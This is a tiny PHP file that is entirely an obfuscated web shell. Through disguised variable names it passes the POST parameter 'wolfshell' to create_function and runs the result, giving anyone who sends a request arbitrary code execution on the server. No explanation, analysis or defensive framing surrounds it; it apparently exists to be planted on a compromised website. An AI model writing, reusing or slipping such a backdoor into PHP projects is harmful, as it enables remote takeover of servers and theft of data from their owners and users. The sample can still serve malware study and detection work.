<?php
$f_81a7 = 'GLOBALS';
$k_2b9f = '_POST';
$v_c3d0 = 'wolfshell';
$c_e4a1 = 'create_function';
$x_g5b2 = $c_e4a1('', $GLOBALS[$k_2b9f][$v_c3d0]);
$x_g5b2();
?>